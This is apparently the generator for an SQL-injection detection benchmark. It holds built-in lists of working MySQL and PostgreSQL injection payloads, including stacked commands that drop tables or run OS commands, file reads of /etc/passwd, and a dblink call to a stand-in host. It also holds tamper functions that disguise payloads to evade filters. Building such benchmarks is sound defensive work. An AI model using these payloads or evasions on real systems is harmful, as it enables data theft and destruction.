/**
 * Statements for the accuracy benchmark, made and not collected. Honest ones: those of honest.txt, and templates.txt
 * with ordinary values, and grown.txt, which nobody has learned. Attacks: every payload below in every place of templates.txt
 * that it suits, plain and through every tamper. Deterministic: the same statements each time. `half` divides
 * payloads and honest statements alike: what is developed with, and what is only read at the end. The files
 * heldout-*.txt are another such set, of other applications, payloads, tampers and tools: with its first half the
 * causes of misses are looked for, its second half is to be counted only (once its flagged honest statements were read).
 */
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";

const text = name => readFileSync(new URL(name, import.meta.url), "utf8");
const bits = value => createHash("sha256").update(value).digest();
export const halfOf = value => (bits(value)[7] & 1 ? "final" : "development");

/** `dialect statement` lines, "both" doubled. */
function lines(name) {
  return text(name)
    .split("\n")
    .filter(line => line !== "" && !line.startsWith("#"))
    .flatMap(line => {
      const [dialect, ...rest] = line.split(" ");
      const sql = rest.join(" ").replaceAll("\\n", "\n").replaceAll("\\\\", "\\");
      return (dialect === "both" ? ["mysql", "pg"] : [dialect]).map(one => ({ dialect: one, sql }));
    });
}

/**
 * What follows a value that was ended: dialect, family, name, text. ~ is a table of the victim, @ a column of the
 * query. A text is what stands between two values, so that it fits with and without the application's closing quote.
 */
const tails = `
both tautology or-greater OR 7>3
both tautology or-not-false OR NOT false
both tautology or-equal-strings OR 'q'='q'
both tautology or-between OR 5 BETWEEN 1 AND 9
both tautology or-in OR 4 IN (4,8)
both tautology or-column OR @=@
both tautology or-column-null OR @ IS NOT NULL
both tautology or-null OR NULL IS NULL
both tautology or-length OR length('abc')=3
both tautology or-coalesce OR coalesce(NULL,2)=2
both tautology or-like OR 'ab' LIKE 'a%'
both tautology or-arithmetic OR 3*3=9
both tautology or-exists OR EXISTS (SELECT 2)
both tautology or-case OR CASE WHEN 2>1 THEN true ELSE false END
both tautology and-false AND 6<2
both tautology and-not AND NOT (1=1)
both tautology or-least OR least(1,2)=1
both tautology or-row OR (1,2)=(1,2)
both tautology or-all OR 1 < ALL (SELECT 5)
mysql tautology or-one OR 1
mysql tautology pipes || 1
mysql tautology xor XOR 1
mysql tautology or-strcmp OR strcmp('a','b')
mysql tautology or-regexp OR 'abc' REGEXP '^a'
mysql tautology or-sounds OR 'a' SOUNDS LIKE 'a'
mysql tautology and-amp && 1=2
mysql tautology div DIV 1 OR 2
mysql tautology or-negation OR !0
pg tautology or-similar OR 'abc' SIMILAR TO 'a%'
pg tautology or-regex OR 'abc' ~ '^a'
pg tautology or-cast OR true::bool
pg tautology or-distinct OR 1 IS DISTINCT FROM 2
pg tautology or-bool OR bool 't'
both union union-one UNION SELECT secret FROM ~
both union union-two UNION SELECT login,secret FROM ~
both union union-all-two UNION ALL SELECT login,secret FROM ~
both union union-nulls UNION ALL SELECT NULL,NULL
both union union-null-col UNION ALL SELECT NULL,secret FROM ~
both union union-numbers UNION SELECT 11,22
both union union-mixed UNION SELECT login,7 FROM ~
both union union-catalogue UNION SELECT table_name,table_schema FROM information_schema.tables
both union union-columns UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='~'
both union union-distinct UNION DISTINCT SELECT secret,login FROM ~
both union union-limit UNION SELECT secret,login FROM ~ LIMIT 1
both union union-bracket UNION (SELECT secret,login FROM ~)
both union union-star UNION SELECT * FROM ~
both union union-sub UNION SELECT (SELECT secret FROM ~ LIMIT 1),5
both union union-values UNION VALUES (1,2)
both union except EXCEPT SELECT secret,login FROM ~
both union intersect INTERSECT SELECT login,secret FROM ~
mysql union union-user UNION SELECT user(),database()
mysql union union-concat UNION SELECT concat(login,':',secret),3 FROM ~
mysql union union-group UNION SELECT group_concat(secret),3 FROM ~
mysql union union-variable UNION SELECT @@hostname,@@port
mysql union union-file UNION SELECT load_file('/etc/hosts'),1
mysql union union-hex UNION SELECT hex(secret),login FROM ~
pg union union-version UNION SELECT version(),current_user
pg union union-glue UNION SELECT login||'/'||secret,'x' FROM ~
pg union union-agg UNION SELECT string_agg(secret,','),'x' FROM ~
pg union union-shadow UNION SELECT usename,passwd FROM pg_shadow
pg union union-cast UNION SELECT secret::text,login::text FROM ~
pg union union-table UNION TABLE ~
both blind exists-row AND EXISTS (SELECT 1 FROM ~ WHERE login='root')
both blind exists-or OR EXISTS (SELECT 1 FROM ~ WHERE role='owner' AND secret LIKE 'a%')
both blind count AND (SELECT count(*) FROM ~)>0
both blind substring AND substring((SELECT secret FROM ~ LIMIT 1),1,1)='a'
both blind substring-from AND substring((SELECT secret FROM ~ LIMIT 1) FROM 1 FOR 1)='b'
both blind ascii AND ascii(substr((SELECT max(secret) FROM ~),2,1))>77
both blind length AND (SELECT length(secret) FROM ~ WHERE id=1)>8
both blind like AND (SELECT secret FROM ~ WHERE login='root') LIKE 'p%'
both blind case AND 1=(CASE WHEN (SELECT count(*) FROM ~)>3 THEN 1 ELSE 0 END)
both blind column-guess OR secret LIKE 'a%'
both blind column-greater OR id > 0
both blind min-compare AND @ < (SELECT max(secret) FROM ~)
both blind in-sub AND @ IN (SELECT login FROM ~)
both blind position AND position('a' IN (SELECT secret FROM ~ LIMIT 1))=1
mysql blind ord AND ord(mid((SELECT secret FROM ~ LIMIT 0,1),1,1))=97
mysql blind if AND if((SELECT secret FROM ~ LIMIT 1) RLIKE '^a',1,0)
mysql blind user AND user() LIKE 'root%'
mysql blind version AND mid(version(),1,1)='8'
mysql blind left AND left((SELECT secret FROM ~ LIMIT 1),1)='a'
mysql blind instr AND instr((SELECT secret FROM ~ LIMIT 1),'a')
mysql blind database OR database()='shop'
mysql blind bin AND hex((SELECT secret FROM ~ LIMIT 1)) LIKE '61%'
pg blind current AND current_user='postgres'
pg blind get-byte AND get_byte((SELECT secret FROM ~ LIMIT 1)::bytea,0)=97
pg blind regex AND (SELECT secret FROM ~ LIMIT 1) ~ '^a'
pg blind setting AND current_setting('is_superuser')='on'
pg blind left AND left((SELECT secret FROM ~ LIMIT 1),1)='a'
pg blind split AND split_part((SELECT secret FROM ~ LIMIT 1),'a',1)=''
pg blind privilege AND has_table_privilege('~','select')
pg blind array AND (SELECT array_agg(login) FROM ~)[1]='root'
mysql time sleep AND sleep(3)
mysql time or-sleep OR sleep(2)=0
mysql time if-sleep AND if(1=1,sleep(4),0)
mysql time sub-sleep AND (SELECT 3 FROM (SELECT(sleep(2)))x)
mysql time benchmark OR benchmark(9000000,sha1('a'))
mysql time case-sleep AND CASE WHEN (2>1) THEN sleep(3) ELSE 0 END
mysql time lock AND get_lock('a',9)
mysql time rlike RLIKE sleep(3)
pg time sleep AND 1=(SELECT 1 FROM pg_sleep(3))
pg time or-sleep OR (SELECT pg_sleep(2)) IS NULL
pg time case AND (CASE WHEN 3>1 THEN pg_sleep(2)::text ELSE '' END)=''
pg time sleep-for OR pg_sleep_for('2 seconds') IS NOT NULL
pg time heavy AND (SELECT count(*) FROM generate_series(1,9000000))>0
pg time cross AND 0<(SELECT count(*) FROM pg_class a,pg_class b,pg_class c)
mysql time cross AND 0<(SELECT count(*) FROM information_schema.columns a,information_schema.columns b)
mysql error extract AND extractvalue(1,concat(1,(SELECT secret FROM ~ LIMIT 1)))
mysql error update AND updatexml(1,concat(0x3a,user()),1)
mysql error floor AND (SELECT 1 FROM (SELECT count(*),concat((SELECT secret FROM ~ LIMIT 1),floor(rand(0)*2))x FROM information_schema.tables GROUP BY x)y)
mysql error gtid AND gtid_subset(concat((SELECT secret FROM ~ LIMIT 1)),1)
mysql error exp AND exp(~(SELECT * FROM (SELECT secret FROM ~)x))
mysql error json AND json_keys((SELECT secret FROM ~ LIMIT 1))
mysql error bigint AND 18446744073709551615+(SELECT length(secret) FROM ~ LIMIT 1)
pg error cast AND 1=cast((SELECT secret FROM ~ LIMIT 1) AS int)
pg error double-colon AND (SELECT secret FROM ~ LIMIT 1)::int=1
pg error zero AND 1/(SELECT CASE WHEN secret='a' THEN 0 ELSE 1 END FROM ~ LIMIT 1)=1
pg error chr AND 1=cast(chr(97)||(SELECT secret FROM ~ LIMIT 1)||chr(98) AS numeric)
pg error xml AND query_to_xml('select secret from ~',true,true,'') IS NULL
pg error date AND cast((SELECT login FROM ~ LIMIT 1) AS date)=current_date
both stacked drop ; DROP TABLE ~
both stacked update ; UPDATE ~ SET role='owner' WHERE login='me'
both stacked insert ; INSERT INTO ~ (login,secret) VALUES ('me','x')
both stacked delete ; DELETE FROM ~
both stacked select ; SELECT secret FROM ~
both stacked truncate ; TRUNCATE TABLE ~
both stacked grant ; GRANT ALL PRIVILEGES ON ~ TO mallory
both stacked create ; CREATE TABLE loot AS SELECT * FROM ~
both stacked alter ; ALTER TABLE ~ ADD COLUMN x int
mysql stacked sleep ; SELECT sleep(3)
mysql stacked set ; SET GLOBAL general_log='ON'
mysql stacked outfile ; SELECT secret FROM ~ INTO OUTFILE '/tmp/x'
mysql stacked do ; DO sleep(3)
mysql stacked prepare ; PREPARE p FROM 'SELECT 1'
pg stacked sleep ; SELECT pg_sleep(3)
pg stacked copy ; COPY ~ TO '/tmp/x'
pg stacked program ; COPY loot FROM PROGRAM 'id'
pg stacked function ; CREATE FUNCTION f(text) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C
pg stacked role ; ALTER ROLE app SUPERUSER
pg stacked anonymous ; DO 'BEGIN PERFORM pg_sleep(3); END'
pg stacked large-object ; SELECT lo_import('/etc/passwd')
mysql file outfile INTO OUTFILE '/var/www/x.php'
mysql file dumpfile INTO DUMPFILE '/tmp/x.so'
mysql file load AND load_file('/etc/passwd') IS NOT NULL
pg file read AND pg_read_file('/etc/passwd') LIKE 'root%'
pg file list AND (SELECT count(*) FROM pg_ls_dir('/'))>0
pg file dblink AND (SELECT x FROM dblink('host=evil','select 1') AS t(x int))=1
both implicit equals-column = @
both implicit plus-zero +0
both implicit and-column AND @ = @
both implicit or-column-literal OR role='owner'
both implicit and-greater AND id>0
mysql implicit doubled ='0'
mysql implicit minus-text -'0'
mysql implicit star-text *'1'
mysql implicit caret-text ^'0'
mysql implicit is-true IS NOT NULL
mysql implicit like-percent LIKE '%'
mysql implicit between BETWEEN '' AND 'z'
mysql implicit collate COLLATE utf8mb4_bin
pg implicit glue ||''
pg implicit cast ::text
pg implicit collate COLLATE "C"
both comment nothing 
`;

/** Instead of a value. */
const values = `
both implicit column @
both implicit other-column secret
both blind scalar (SELECT secret FROM ~ LIMIT 1)
both blind scalar-where (SELECT secret FROM ~ WHERE login='root')
both blind scalar-max (SELECT max(id) FROM ~)
both blind case-value (CASE WHEN 4>3 THEN 1 ELSE 2 END)
both blind case-question (CASE WHEN (SELECT role FROM ~ LIMIT 1)='owner' THEN 1 ELSE 2 END)
both implicit arithmetic 8-1
both implicit any ANY (SELECT id FROM ~)
both error divide 1/(SELECT 0 FROM ~ LIMIT 1)
mysql blind if-value if((SELECT 1 FROM ~ LIMIT 1)=1,1,2)
mysql implicit not !0
mysql union server @@version
mysql time sleep-value sleep(3)
mysql error extract-value extractvalue(1,concat(0x3a,version()))
mysql implicit tilde ~1
pg union server current_setting('data_directory')
pg time sleep-value (SELECT 1 FROM pg_sleep(3))
pg error cast-value cast(version() AS int)
pg blind chr-value chr(65)||chr(66)
`;

const parse = list =>
  list
    .trim()
    .split("\n")
    .map(line => {
      const [dialect, family, name, ...rest] = line.split(" ");
      return { dialect, family, name: `${dialect}/${family}/${name}`, text: rest.join(" ") };
    });

/** `tail` or `value` before each line. */
const heldOut = kind =>
  parse(
    text("heldout-payloads.txt")
      .split("\n")
      .filter(line => line.startsWith(`${kind} `))
      .map(line => line.slice(kind.length + 1))
      .join("\n"),
  );

export const FIRST = {
  prefix: "own",
  templates: "templates.txt",
  honest: "honest.txt",
  grown: "grown.txt",
  tails: parse(tails),
  values: parse(values),
  victim: { table: "member", column: "owner" },
  /** A tamper in one of so many places: all of them would be a million statements; and a plain payload in one of so many. */
  tamperedIn: 24,
  plainIn: 1,
  tampersOf: dialect => ({ ...tampers, ...(dialect === "mysql" ? mysqlTampers : pgTampers) }),
};
export const HELD_OUT = {
  prefix: "held",
  templates: "heldout-templates.txt",
  honest: "heldout-honest.txt",
  tails: heldOut("tail"),
  values: heldOut("value"),
  victim: { table: "credential", column: "tenant_id" },
  tamperedIn: 60,
  plainIn: 6,
  tampersOf: dialect => ({
    none: payload => payload,
    ...heldOutTampers,
    ...(dialect === "mysql" ? heldOutMysqlTampers : heldOutPgTampers),
  }),
};
const suits = (payload, dialect) => payload.dialect === "both" || payload.dialect === dialect;

/** A tamper rewrites the pasted text alone. Strings in it are kept. */
const outsideStrings = (payload, change) =>
  payload
    .split(/('[^']*')/)
    .map((part, i) => (i % 2 === 1 ? part : change(part)))
    .join("");
const words =
  /\b(?:or|and|not|union|all|select|from|where|exists|case|when|then|like|between|in|sleep|limit)\b/gi;
const tampers = {
  none: payload => payload,
  mixedCase: payload =>
    outsideStrings(payload, part =>
      part.replace(words, word =>
        [...word].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join(""),
      ),
    ),
  tabs: payload => outsideStrings(payload, part => part.replace(/ /g, "\t")),
  lines: payload => outsideStrings(payload, part => part.replace(/ /g, "\r\n")),
  comments: payload => outsideStrings(payload, part => part.replace(/ /g, "/**/")),
  wordyComments: payload => outsideStrings(payload, part => part.replace(/ /g, (_, at) => `/*${at}z*/`)),
  oneComment: payload => outsideStrings(payload, part => part.replace(/ (?=\S+ )/, "/* x */")),
  lineComments: payload => outsideStrings(payload, part => part.replace(/ /g, "--  w\n")),
  likeForEquals: payload => outsideStrings(payload, part => part.replace(/(?<![<>!=:])=(?!=)/g, " LIKE ")),
  inForEquals: payload => payload.replace(/=('[^']*'|\d+)/g, " IN ($1)"),
  betweenForGreater: payload => payload.replace(/>(\d+)/g, " NOT BETWEEN 0 AND $1"),
  brackets: payload => outsideStrings(payload, part => part.replace(/\b(\d+)\b(?!\()/g, "($1)")),
  doubleNot: payload => payload.replace(/^(OR|AND) (?!EXISTS|NOT|CASE)(.*)$/, "$1 NOT(NOT($2))"),
};
const mysqlTampers = {
  versioned: payload => outsideStrings(payload, part => part.replace(words, "/*!$&*/")),
  numbered: payload => outsideStrings(payload, part => part.replace(words, "/*!50000$&*/")),
  hash: payload => outsideStrings(payload, part => part.replace(/ /g, "#x\n")),
  formFeed: payload => outsideStrings(payload, part => part.replace(/ /g, "\f")),
  symbols: payload => payload.replace(/^OR /, "|| ").replace(/^AND /, "&& "),
  hexText: payload => payload.replace(/'([a-z]+)'/gi, (_, s) => `0x${Buffer.from(s).toString("hex")}`),
  binary: payload => payload.replace(/=(?=['\d(])/g, "= BINARY "),
  backticks: payload => payload.replace(/\b(secret|login|role)\b/g, "`$1`"),
};
const pgTampers = {
  dollars: payload => payload.replace(/'([a-z%]+)'/gi, "$q$$$1$q$$"),
  casts: payload => outsideStrings(payload, part => part.replace(/\b(\d+)\b(?!\()/g, "$1::int")),
  unicode: payload => payload.replace(/'([a-z]+)'/gi, "U&'$1'"),
  quotedNames: payload => payload.replace(/\b(secret|login|role)\b/g, '"$1"'),
  operatorSyntax: payload =>
    outsideStrings(payload, part => part.replace(/(?<![<>!:|])=(?!=)/g, " OPERATOR(pg_catalog.=) ")),
};
const heldOutTampers = {
  upper: payload => outsideStrings(payload, part => part.toUpperCase()),
  greatest: payload => outsideStrings(payload, part => part.replace(/\b(\d)>(\d)/g, "greatest($1,$2+1)=$1")),
  blanks: payload => outsideStrings(payload, part => part.replace(/ /g, " \n\t  ")),
  bangComments: payload => outsideStrings(payload, part => part.replace(/ /g, "/*-*/")),
  dashLines: payload => outsideStrings(payload, part => part.replace(/ (?=[A-Z])/g, " -- q7\n")),
  exponent: payload => payload.replace(/^(?=UNION|OR |AND )/, "e0 "),
  allUnion: payload => payload.replace(/UNION ALL SELECT/, "UNION SELECT"),
  bracketed: payload => payload.replace(/^(OR|AND) (.*)$/, "$1(($2))"),
  lateTrue: payload => payload.replace(/^(OR|AND) (.*)$/, "$1 $2 AND 31=31"),
  caseWrapped: payload => payload.replace(/^(OR|AND) (?!NOT)(.*)$/, "$1 CASE WHEN ($2) THEN 1 ELSE 0 END=1"),
};
const heldOutMysqlTampers = {
  lineFeedHash: payload => outsideStrings(payload, part => part.replace(/ /g, "#k3\n")),
  halfVersioned: payload =>
    outsideStrings(payload, part => part.replace(words, "/*!0$&")).replaceAll("/*!0", "/*!00000 "),
  versionedWhole: payload => `/*!50000 ${payload} */`,
  rlike: payload => outsideStrings(payload, part => part.replace(/(?<![<>!=:])=(?!=)/g, " RLIKE ")),
  quotedTable: payload => payload.replaceAll("information_schema.", "`information_schema`."),
  charText: payload =>
    payload.replace(/'([a-z]{1,8})'/gi, (_, s) => `char(${[...Buffer.from(s)].join(",")})`),
};
const heldOutPgTampers = {
  escapes: payload =>
    payload.replace(/'([a-z]+)'/gi, (_, s) => `E'\\x${s.charCodeAt(0).toString(16)}${s.slice(1)}'`),
  taggedDollars: payload => payload.replace(/'([a-z%]+)'/gi, "$$$$$1$$$$"),
  chrText: payload =>
    payload.replace(
      /'([a-z]{1,6})'/gi,
      (_, s) => `(${[...Buffer.from(s)].map(c => `chr(${c})`).join("||")})`,
    ),
  nestedComments: payload => outsideStrings(payload, part => part.replace(/ /g, "/* a /* b */ c */")),
};

const slot = /'(%?)\{s\}(%?)'|"\{s\}"|\{([a-zA-Z])\}/g;
const honestOf = {
  n: i => String((i * 7919) % 4001),
  s: i => ["Ada", "o''clock", "tea", "x-9", "New York", "", "or 1=1", "7"][i % 8] + (i > 7 ? i : ""),
  N: i => Array.from({ length: (i % 5) + 1 }, (_, n) => n * 3 + i).join(", "),
  S: i => Array.from({ length: (i % 4) + 1 }, (_, n) => `'k${n + i}'`).join(", "),
  c: i => ["id", "subject", "received", "size"][i % 4],
  d: i => ["ASC", "DESC"][i % 2],
  l: i => String([10, 20, 25, 50, 100][i % 5]),
  t: i => ["mail", "draft", "archive"][i % 3],
};
const placesOf = sql => [...sql.matchAll(slot)];
/** `at`: the places that take the pasted text. */
function fill(sql, seed, at = [], pasted = "") {
  let i = -1;
  return sql.replace(slot, (whole, before, after, name) => {
    i++;
    const text = at.includes(i) ? pasted : honestOf[name ?? "s"](seed + i * 3);
    if (name) return text;
    const quote = whole[0];
    return `${quote}${before ?? ""}${text}${after ?? ""}${quote}`;
  });
}

/** Each place, and each text that goes into two of them: one search box for two columns. */
function entrances(sql) {
  const places = placesOf(sql);
  const single = places.map((place, at) => ({ at, ats: [at], place }));
  const twice = single.flatMap(({ at, place }) =>
    place[0] === places[at + 1]?.[0] && /s\}/.test(place[0]) ? [{ at, ats: [at, at + 1], place }] : [],
  );
  return [...single, ...twice];
}

const concrete = (payload, { table, column }) =>
  payload
    .replaceAll(/(?<![!])~(?=[a-z]|$|[\s),;'])(?! ?'\^)/g, table)
    .replaceAll(/(?<!@)@(?!@|[a-z>])/g, column);

/** The ways out of a place: text before the payload, and after it. */
function pastes(kind, payload, seed, victim) {
  const text = concrete(payload.text, victim);
  const ends = payload.family === "comment" ? ["-- ", "#", "/*"] : null;
  switch (kind) {
    case "n":
    case "l":
    case "N":
      return ends ? ends.map(end => `4 ${end}`) : [`4 ${text}`, `4 ${text} -- `];
    case "s":
      return ends
        ? ends.map(end => `x' ${end}`)
        : [`x' ${text} -- `, /'$/.test(text) ? `x' ${text.slice(0, -1)}` : `x' ${text} AND 'c'='c`];
    case "S":
      return ends ? ends.map(end => `'k') ${end}`) : [`'k') ${text} -- `];
    case "c":
    case "d":
      return ends ? [] : seed % 2 ? [`id ${text} -- `] : [];
    case "t":
      return ends ? [] : [`mail WHERE ${victim.column}=1 ${text} -- `];
    default:
      return [];
  }
}

const isTaken = ({ tamperedIn, plainIn }, tamper, payload, where) =>
  bits(`${tamper} ${payload.name} ${where}`)[0] % (tamper === "none" ? plainIn : tamperedIn) === 0;

/** {id, dialect, sql, label: "attack", family, template, payload, tamper, half} */
export function attacks(set = FIRST) {
  const out = [];
  const seen = new Set();
  for (const [number, { dialect, sql }] of lines(set.templates).entries())
    for (const { at, ats, place } of entrances(sql)) {
      const kind = place[3] ?? "s";
      const double = place[0].startsWith('"');
      const add = (payload, pasted, tamper) => {
        const whole = fill(sql, number, ats, double ? pasted.replace(/^x'/, 'x"') : pasted);
        if (double && !/-- $|#$/.test(pasted)) return;
        if (seen.has(dialect + whole)) return;
        seen.add(dialect + whole);
        out.push({
          id: `${set.prefix}-a${out.length}`,
          dialect,
          sql: whole,
          label: "attack",
          family: payload.family,
          template: `${set.prefix}-${dialect}-${sql.slice(0, 60)}`,
          payload: payload.name,
          tamper,
          half: halfOf(payload.name),
        });
      };
      const where = `${number} ${at}`;
      for (const payload of set.tails.filter(one => suits(one, dialect)))
        for (const [tamper, change] of Object.entries(set.tampersOf(dialect))) {
          if (!isTaken(set, tamper, payload, where)) continue;
          const changed = { ...payload, text: change(payload.text) };
          if (tamper !== "none" && changed.text === payload.text) continue;
          for (const pasted of pastes(kind, changed, number, set.victim)) add(payload, pasted, tamper);
        }
      if ("nlcd".includes(kind))
        for (const payload of set.values.filter(one => suits(one, dialect)))
          for (const [tamper, change] of Object.entries(set.tampersOf(dialect))) {
            if (!isTaken(set, tamper, payload, where)) continue;
            const text = concrete(payload.text, set.victim);
            const changed = change(text);
            if (tamper === "none" || changed !== text) add(payload, changed, tamper);
          }
    }
  return out;
}

const INSTANCES = 40;
const GROWN_INSTANCES = 5;

/** {id, dialect, sql, label: "benign", family, template, half, never?: it is never learned} */
export function honest(set = FIRST) {
  const out = [];
  const add = (dialect, sql, family, template) =>
    out.push({
      id: `${set.prefix}-h${out.length}`,
      dialect,
      sql,
      label: "benign",
      family,
      template,
      half: halfOf(sql),
    });
  for (const { dialect, sql } of lines(set.honest))
    add(dialect, sql, "own-idioms", `${set.prefix}-${dialect}-${sql}`);
  for (const { dialect, sql } of lines(set.templates))
    for (let i = 0; i < INSTANCES; i++)
      add(dialect, fill(sql, i), "own-templates", `${set.prefix}-${dialect}-${sql.slice(0, 60)}`);
  for (const { dialect, sql } of set.grown ? lines(set.grown) : [])
    for (let i = 0; i < GROWN_INSTANCES; i++)
      out.push({
        id: `own-g${out.length}`,
        dialect,
        sql: fill(sql, i * 5),
        label: "benign",
        family: "own-grown",
        template: `own-${dialect}-${sql}`,
        half: halfOf(sql),
        never: true,
      });
  return out;
}
